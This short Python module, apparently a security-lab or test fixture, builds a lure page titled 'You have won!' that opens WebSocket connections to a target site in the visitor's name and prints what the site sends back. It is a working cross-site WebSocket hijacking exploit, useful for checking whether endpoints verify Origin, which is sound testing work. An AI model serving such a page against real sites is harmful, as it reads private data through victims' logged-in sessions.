"""A thief's page: it asks the site's WebSockets in the name of whoever looks at it."""

from typing import Final

PAGE: Final = """\
<!doctype html>
<title>You have won!</title>
<pre id="loot"></pre>
<script>
  for (const path of ["/ws/lab/open", "/ws/lab/guarded", "/ws/"]) {
    const socket = new WebSocket("{origin}" + path);
    const tell = (text) => loot.append(`${path} ${text}\\n`);
    socket.onmessage = ({ data }) => tell(`told: ${data}`);
    socket.onerror = () => tell("refused");
  }
</script>
"""


def attack(origin: str) -> str:
    """The page against this site, `origin` as `http://host:port`. To be served from anywhere else."""
    return PAGE.replace("{origin}", origin.replace("http", "ws", 1))
